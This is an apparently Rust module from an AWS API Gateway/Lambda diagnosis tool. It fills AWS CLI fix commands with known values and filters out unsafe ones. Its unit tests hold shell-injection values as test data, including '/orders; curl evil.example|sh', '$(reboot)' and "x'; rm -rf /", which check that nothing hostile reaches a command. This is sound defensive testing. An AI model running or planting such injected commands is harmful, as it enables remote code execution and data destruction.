//! The fix, filled in: every command of a cause's advice with the function, API, stage, route and account the
//! finding or alert already knows. A placeholder stays only for what the log does not say, and the text names it.
//!
//! Pure. The permission command is the one self-healing would run (same source ARN, same statement id), so a
//! person who runs it and a later `auto` run agree that it is done.

use std::borrow::Cow;

use crate::alert::Alert;
use crate::diagnose::Cause;
use crate::diagnose::advice::advice;
use crate::diagnose::finding::Finding;
use crate::remediate::plan::{Fix, FunctionRef, Source, source_arn};

/// What an exact fix needs, borrowed from a finding or an alert.
#[derive(Debug, Clone, Copy, Default)]
pub struct Target<'a> {
    pub cause: Option<Cause>,
    pub function_arn: Option<&'a str>,
    pub authorizer_arn: Option<&'a str>,
    pub authorizer_id: Option<&'a str>,
    pub api_id: Option<&'a str>,
    pub stage: Option<&'a str>,
    pub method: Option<&'a str>,
    pub resource_path: Option<&'a str>,
    /// The API's account: the delivery's owner (never a function's account, which may be another).
    pub account: Option<&'a str>,
    /// Where the function runs, when no ARN says it (the alerting function's own region).
    pub region: Option<&'a str>,
    pub lambda_request_id: Option<&'a str>,
    /// What is wrong, as the diagnosis said it (the function's timeout is read from it).
    pub detail: Option<&'a str>,
}

impl<'a> Target<'a> {
    pub fn of_finding(f: &'a Finding) -> Target<'a> {
        Target {
            cause: Some(f.cause),
            function_arn: f.function_arn.as_deref(),
            authorizer_arn: f.authorizer_arn.as_deref(),
            authorizer_id: f.authorizer_id.as_deref(),
            api_id: f.api_id.as_deref(),
            stage: f.stage.as_deref(),
            method: f.method.as_deref(),
            resource_path: f.resource_path.as_deref(),
            account: f.account.as_deref(),
            region: None,
            lambda_request_id: f.lambda_request_id.as_deref(),
            detail: f.detail.as_deref(),
        }
    }

    pub fn of_alert(a: &'a Alert) -> Target<'a> {
        Target {
            cause: Some(a.cause),
            function_arn: a.function_arns.first().map(String::as_str),
            authorizer_arn: a.authorizer_arns.first().map(String::as_str),
            authorizer_id: a.authorizer_ids.first().map(String::as_str),
            api_id: a.api_id.as_deref(),
            stage: a.stage.as_deref(),
            method: a.method.as_deref(),
            resource_path: a.resource_path.as_deref(),
            account: a.account.as_deref(),
            region: Some(a.region.as_str()).filter(|r| !r.is_empty()),
            lambda_request_id: a.sample_lambda_request_ids.first().map(String::as_str),
            detail: a.detail.as_deref(),
        }
    }
}

impl<'a> Target<'a> {
    /// Only values a shell takes as one plain word go into a command; anything else is unknown (a route or stage
    /// from an access-log record is the record's text).
    fn shell_safe(&self) -> Target<'a> {
        fn word(v: Option<&str>) -> Option<&str> {
            v.filter(|s| {
                !s.is_empty()
                    && s.len() <= 512
                    && s.bytes()
                        .all(|b| b.is_ascii_alphanumeric() || b"/-_.{}+*:~@=,".contains(&b))
            })
        }
        Target {
            cause: self.cause,
            // `$LATEST` is the unqualified function; a `$` never reaches a shell.
            function_arn: word(self.function_arn.map(|a| a.trim_end_matches(":$LATEST"))),
            authorizer_arn: word(self.authorizer_arn.map(|a| a.trim_end_matches(":$LATEST"))),
            authorizer_id: word(self.authorizer_id),
            api_id: word(self.api_id),
            stage: word(self.stage),
            method: word(self.method),
            resource_path: word(self.resource_path),
            account: self
                .account
                .filter(|a| a.len() == 12 && a.bytes().all(|b| b.is_ascii_digit())),
            region: word(self.region),
            lambda_request_id: self.lambda_request_id.filter(|id| is_plain_id(id)),
            detail: self.detail,
        }
    }
}

/// The cause's fix with every known value in place; the generic advice when nothing is known.
pub fn exact_fix(target: &Target<'_>) -> Cow<'static, str> {
    let Some(cause) = target.cause else {
        return Cow::Borrowed("");
    };
    let target = &target.shell_safe();
    let generic = advice(cause).fix;
    let filled = match cause {
        Cause::MissingInvokePermission => Some(invoke_permission(target, false)),
        Cause::AuthorizerMissingInvokePermission => Some(invoke_permission(target, true)),
        Cause::FunctionTimeout => function(target).map(|f| {
            let now = match timed_out_after(target.detail) {
                Some(seconds) => format!("now {seconds} s, from the log"),
                None => format!(
                    "see it with aws lambda get-function-configuration --function-name {} --query Timeout",
                    f.unqualified_arn()
                ),
            };
            format!(
                "Find what {name} waits on (downstream calls, cold start), or raise its Timeout ({now}) and keep it \
                 below the API's integration timeout (29 s by default): aws lambda update-function-configuration \
                 --function-name {arn} --timeout 28.",
                name = f.name,
                arn = f.unqualified_arn()
            )
        }),
        Cause::FunctionError => function(target).map(|f| {
            let name = &f.name;
            let pattern = target
                .lambda_request_id
                .map(|id| format!(" --filter-pattern '\"{id}\"'"))
                .unwrap_or_default();
            format!(
                "Read {name}'s own log for the request: aws logs filter-log-events --log-group-name /aws/lambda/{name}{pattern} \
                 --region {region}; fix the error, and return a proxy response with a 4xx/5xx statusCode for handled \
                 errors instead of throwing.",
                region = f.region
            )
        }),
        Cause::LambdaThrottled => function(target).map(|f| {
            format!(
                "Raise {name}'s concurrency: the current setting: aws lambda get-function-concurrency --function-name \
                 {arn}; the account's: aws lambda get-account-settings --region {region}; then aws lambda \
                 put-function-concurrency --function-name {arn} --reserved-concurrent-executions <a higher limit>, add \
                 provisioned concurrency, or throttle the API stage below what the function can take.",
                name = f.name,
                arn = f.unqualified_arn(),
                region = f.region
            )
        }),
        Cause::LambdaKmsError => function(target).map(|f| {
            format!(
                "Give {name}'s execution role kms:Decrypt on its key: aws lambda get-function-configuration \
                 --function-name {arn} --query '[KMSKeyArn,Role]' names both; check the key policy and that the key \
                 is enabled, then update the function's configuration.",
                name = f.name,
                arn = f.unqualified_arn()
            )
        }),
        Cause::Throttled => match (target.api_id, target.stage) {
            (Some(api), Some(stage)) => Some(format!(
                "Raise the stage or method throttle, or the usage plan's rate and burst; the current settings: aws \
                 apigateway get-stage --rest-api-id {api} --stage-name {stage} --query methodSettings; or make the \
                 client back off and retry."
            )),
            _ => None,
        },
        Cause::IntegrationTimeout => function(target).map(|f| {
            format!(
                "Make {name} answer sooner, or move long work to an asynchronous pattern. Regional and private REST \
                 APIs can raise the integration timeout above 29 s since June 2024 (quota L-E5AE38E3, may lower the \
                 account throttle); edge-optimized REST APIs and HTTP APIs (30 s maximum) cannot.",
                name = f.name
            )
        }),
        _ => None,
    };
    filled.map_or(Cow::Borrowed(generic), Cow::Owned)
}

/// The seconds of `Task timed out after 10.00 seconds` in the diagnosis's detail.
fn timed_out_after(detail: Option<&str>) -> Option<&str> {
    let rest = &detail?[detail?.find("after ")? + 6..];
    let number = rest.split_once(" second")?.0;
    (!number.is_empty() && number.bytes().all(|b| b.is_ascii_digit() || b == b'.'))
        .then_some(number)
}

/// The function the finding names: the route's, or the authorizer's for authorizer causes.
fn function(target: &Target<'_>) -> Option<FunctionRef> {
    target.function_arn.and_then(FunctionRef::parse)
}

/// Only ids as Lambda writes them go into a shell command (hex and dashes).
fn is_plain_id(id: &str) -> bool {
    !id.is_empty() && id.len() <= 64 && id.bytes().all(|b| b.is_ascii_hexdigit() || b == b'-')
}

/// `aws lambda add-permission ...` as self-healing would run it, with what the log does not say named.
fn invoke_permission(target: &Target<'_>, authorizer: bool) -> String {
    let arn = if authorizer {
        target.authorizer_arn
    } else {
        target.function_arn
    };
    let function = arn.and_then(FunctionRef::parse);
    // A tutorial's ARN with a placeholder account still names the function and its region.
    let named = arn
        .filter(|_| function.is_none())
        .and_then(placeholder_account_function);
    let mut missing = Vec::new();
    let region = function
        .as_ref()
        .map(|f| f.region.as_str())
        .or(named.map(|(region, _)| region))
        .or(target.region)
        .unwrap_or_else(|| {
            missing.push("the region");
            "<region>"
        });
    // The source ARN is the API's: its account is the delivery's owner; the function's account is the next best
    // (the same account unless the integration is cross-account).
    let account = target
        .account
        .or(function.as_ref().map(|f| f.account.as_str()))
        .unwrap_or_else(|| {
            missing.push("the account");
            "<account>"
        });
    let api = target.api_id.unwrap_or_else(|| {
        missing.push("the API id");
        "<api-id>"
    });
    let source = if authorizer {
        Source::Authorizer {
            authorizer_id: target
                .authorizer_id
                .unwrap_or_else(|| {
                    missing.push("the authorizer id");
                    "<authorizer-id>"
                })
                .to_owned(),
        }
    } else {
        match (target.method, target.resource_path) {
            (Some(method), Some(path)) => Source::Route {
                method: method.to_owned(),
                resource_path: path.to_owned(),
            },
            _ => {
                missing.push("the route (method and resource path)");
                Source::Route {
                    method: "<METHOD>".to_owned(),
                    resource_path: "<path>".to_owned(),
                }
            }
        }
    };
    let source = source_arn(region, account, api, &source);
    let command = match (&function, named) {
        (Some(f), _) => Fix::new(f, source, account).add_command(),
        (None, Some((_, name))) => format!(
            "aws lambda add-permission --function-name {name} --statement-id apigateway-invoke --action \
             lambda:InvokeFunction --principal apigateway.amazonaws.com --source-arn {source} --source-account \
             {account}"
        ),
        (None, None) => {
            missing.push(if authorizer {
                "the authorizer's function"
            } else {
                "the function"
            });
            format!(
                "aws lambda add-permission --function-name <function> --statement-id apigateway-invoke --action \
                 lambda:InvokeFunction --principal apigateway.amazonaws.com --source-arn {source} --source-account \
                 {account}"
            )
        }
    };
    let role = match (&function, authorizer) {
        (Some(f), false) => format!(
            "; or, if the integration uses a credentials role, grant that role lambda:InvokeFunction on {}",
            f.unqualified_arn()
        ),
        (Some(f), true) => format!(
            "; or, if the authorizer uses a credentials role, grant that role lambda:InvokeFunction on {}",
            f.unqualified_arn()
        ),
        (None, _) => {
            "; or, if it uses a credentials role, grant that role lambda:InvokeFunction".to_owned()
        }
    };
    let unknown = match (missing.is_empty(), function.is_some() || named.is_some()) {
        (true, _) => String::new(),
        (false, true) => format!(
            " The log does not name {}: fill in the <placeholders>.",
            join_and(&missing)
        ),
        (false, false) => format!(
            " The log does not name {}: fill in the <placeholders> (the API's integration names the function: aws \
             apigateway get-integration).",
            join_and(&missing)
        ),
    };
    format!(
        "Add a resource-based permission: {command}{role}. Declare it in your template (AWS::Lambda::Permission) so \
         the next deploy keeps it.{unknown}"
    )
}

/// `(region, name)` of a function ARN whose account is a placeholder (`arn:aws:lambda:us-east-1:account-id:function:
/// books`, as pasted from a tutorial or a redacted log): only a region-shaped region and a plain name (letters,
/// digits, `-`, `_`: it goes into a shell command).
fn placeholder_account_function(arn: &str) -> Option<(&str, &str)> {
    let parts: Vec<&str> = arn.split(':').collect();
    let ["arn", _, "lambda", region, _, "function", name] = parts[..] else {
        return None;
    };
    let region_like = region.len() <= 32
        && region.split('-').count() >= 3
        && region
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
        && region.ends_with(|c: char| c.is_ascii_digit());
    let plain_name = !name.is_empty()
        && name.len() <= 64
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_');
    (region_like && plain_name).then_some((region, name))
}

fn join_and(items: &[&str]) -> String {
    match items {
        [] => String::new(),
        [one] => (*one).to_owned(),
        [head @ .., last] => format!("{} and {last}", head.join(", ")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ARN: &str = "arn:aws:lambda:eu-west-2:123456789012:function:orders";

    fn target(cause: Cause) -> Target<'static> {
        Target {
            cause: Some(cause),
            function_arn: Some(ARN),
            api_id: Some("uwe3g5jm54"),
            stage: Some("Prod"),
            method: Some("POST"),
            resource_path: Some("/orders/{id}"),
            account: Some("123456789012"),
            ..Target::default()
        }
    }

    #[test]
    fn a_known_route_gets_the_command_self_healing_would_run() {
        let fix = exact_fix(&target(Cause::MissingInvokePermission));
        let source = "arn:aws:execute-api:eu-west-2:123456789012:uwe3g5jm54/*/POST/orders/*";
        let sid = crate::remediate::plan::statement_id(source, None);
        assert!(
            fix.contains(&format!(
                "aws lambda add-permission --function-name {ARN} --statement-id {sid} --action lambda:InvokeFunction \
                 --principal apigateway.amazonaws.com --source-arn {source} --source-account 123456789012"
            )),
            "{fix}"
        );
        assert!(!fix.contains('<'), "{fix}");
        assert!(!fix.contains("does not name"), "{fix}");
    }

    #[test]
    fn the_source_arn_takes_the_apis_account_not_a_cross_account_functions() {
        let mut t = target(Cause::MissingInvokePermission);
        t.function_arn = Some("arn:aws:lambda:eu-west-2:999999999999:function:shared");
        let fix = exact_fix(&t);
        assert!(
            fix.contains("--source-arn arn:aws:execute-api:eu-west-2:123456789012:uwe3g5jm54/"),
            "{fix}"
        );
        assert!(fix.contains("--source-account 123456789012"), "{fix}");
    }

    #[test]
    fn what_the_log_does_not_say_is_a_named_placeholder() {
        let mut t = target(Cause::MissingInvokePermission);
        t.function_arn = None;
        t.method = None;
        t.resource_path = None;
        t.account = None;
        let fix = exact_fix(&t);
        assert!(fix.contains("--function-name <function>"), "{fix}");
        assert!(fix.contains("uwe3g5jm54/*/<METHOD>/<path>"), "{fix}");
        assert!(
            fix.contains(
                "The log does not name the region, the account, the route (method and resource path) and the function"
            ),
            "{fix}"
        );
    }

    #[test]
    fn a_tutorials_arn_with_a_placeholder_account_still_names_the_function() {
        // tests/data/48-*: the console's test run of a tutorial, its ARN's account written `account-id`.
        let mut t = target(Cause::MissingInvokePermission);
        t.function_arn = Some("arn:aws:lambda:us-east-1:account-id:function:books");
        t.account = None;
        t.api_id = None;
        let fix = exact_fix(&t);
        assert!(
            fix.contains("--function-name books --statement-id"),
            "{fix}"
        );
        assert!(
            fix.contains(
                "--source-arn arn:aws:execute-api:us-east-1:<account>:<api-id>/*/POST/orders/*"
            ),
            "{fix}"
        );
        assert!(
            fix.ends_with(
                "The log does not name the account and the API id: fill in the <placeholders>."
            ),
            "{fix}"
        );
        // What is not a plain name or a region stays a placeholder: it would go into a shell command.
        for arn in [
            "arn:aws:lambda:us-east-1:account-id:function:$(reboot)",
            "arn:aws:lambda:us-east-1:account-id:function:books;rm",
            "arn:aws:lambda:region:account-id:function:books",
            "arn:aws:lambda:us-east-1:account-id:function:books:extra:part",
        ] {
            t.function_arn = Some(arn);
            let fix = exact_fix(&t);
            assert!(fix.contains("--function-name <function>"), "{arn}: {fix}");
        }
    }

    #[test]
    fn an_authorizer_gets_its_own_source_arn() {
        let mut t = target(Cause::AuthorizerMissingInvokePermission);
        t.function_arn = None;
        t.authorizer_arn = Some("arn:aws:lambda:eu-west-2:123456789012:function:auth");
        t.authorizer_id = Some("abc123");
        let fix = exact_fix(&t);
        assert!(
            fix.contains("--function-name arn:aws:lambda:eu-west-2:123456789012:function:auth "),
            "{fix}"
        );
        assert!(
            fix.contains(
                "--source-arn arn:aws:execute-api:eu-west-2:123456789012:uwe3g5jm54/authorizers/abc123"
            ),
            "{fix}"
        );
    }

    #[test]
    fn timeouts_throttles_and_errors_name_the_real_function() {
        let mut t = target(Cause::FunctionTimeout);
        t.detail = Some("the function hit its own Lambda timeout after 10.00 seconds");
        let timeout = exact_fix(&t);
        assert!(
            timeout.contains("raise its Timeout (now 10.00 s, from the log)"),
            "{timeout}"
        );
        assert!(
            timeout.contains(&format!(
                "update-function-configuration --function-name {ARN} --timeout 28"
            )),
            "{timeout}"
        );
        let throttled = exact_fix(&target(Cause::LambdaThrottled));
        assert!(
            throttled.contains(&format!("get-function-concurrency --function-name {ARN}")),
            "{throttled}"
        );
        let mut t = target(Cause::FunctionError);
        t.lambda_request_id = Some("71952965-3a83-11e9-8dc8-db3cf4c83204");
        let error = exact_fix(&t);
        assert!(
            error.contains("--log-group-name /aws/lambda/orders --filter-pattern '\"71952965-3a83-11e9-8dc8-db3cf4c83204\"'"),
            "{error}"
        );
        // A request id that is not Lambda's shape never reaches a shell command.
        t.lambda_request_id = Some("x'; rm -rf /");
        assert!(!exact_fix(&t).contains("rm -rf"));
        let stage = exact_fix(&target(Cause::Throttled));
        assert!(
            stage.contains("get-stage --rest-api-id uwe3g5jm54 --stage-name Prod"),
            "{stage}"
        );
    }

    #[test]
    fn a_value_a_shell_would_split_or_run_is_left_out() {
        let mut t = target(Cause::MissingInvokePermission);
        t.resource_path = Some("/orders; curl evil.example|sh");
        t.stage = Some("$(id)");
        let fix = exact_fix(&t);
        assert!(!fix.contains("curl") && !fix.contains("$("), "{fix}");
        assert!(fix.contains("<METHOD>/<path>"), "{fix}");
        t.resource_path = Some("/orders/{id}");
        t.function_arn = Some("arn:aws:lambda:eu-west-2:123456789012:function:orders:$LATEST");
        let fix = exact_fix(&t);
        assert!(fix.contains(&format!("--function-name {ARN} ")), "{fix}");
        assert!(!fix.contains('$'), "{fix}");
    }

    #[test]
    fn with_nothing_known_the_generic_advice_stands() {
        let t = Target {
            cause: Some(Cause::FunctionTimeout),
            ..Target::default()
        };
        assert_eq!(exact_fix(&t), advice(Cause::FunctionTimeout).fix);
    }
}
